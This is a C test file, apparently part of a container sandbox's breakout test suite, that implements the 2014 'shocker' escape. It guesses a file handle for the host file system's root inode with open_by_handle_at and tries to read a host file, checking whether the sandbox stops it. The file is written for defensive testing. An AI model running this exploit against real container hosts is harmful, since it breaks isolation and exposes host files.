/**
 * @file
 * @brief shocker: a file is opened by its number, past every path.
 *
 * open_by_handle_at(2) opens the inode that a handle names, and a handle can be
 * guessed: inode 2 is the root of an ext4 file system. Of the file system, not
 * of the mount: if the container's directory lies on the host's disk, that is
 * the host's root. It got out of Docker in 2014. The kernel wants
 * CAP_DAC_READ_SEARCH in the first user namespace.
 */
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#include "tests/attacks/breakouts/breakout.h"

BREAKOUT(shocker)
{
    struct {
        struct file_handle head;
        unsigned inode, generation;
    } handle = { { .handle_bytes = 8, .handle_type = 1 }, 2, 0 };
    int mount = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int root = open_by_handle_at(mount, &handle.head, O_RDONLY | O_CLOEXEC);
    int secret;

    if (root < 0)
        return stopped("open_by_handle_at");
    secret = openat(root, "secret", O_RDONLY | O_CLOEXEC);
    return secret < 0 ? stopped("openat") : show_fd(secret, "read");
}
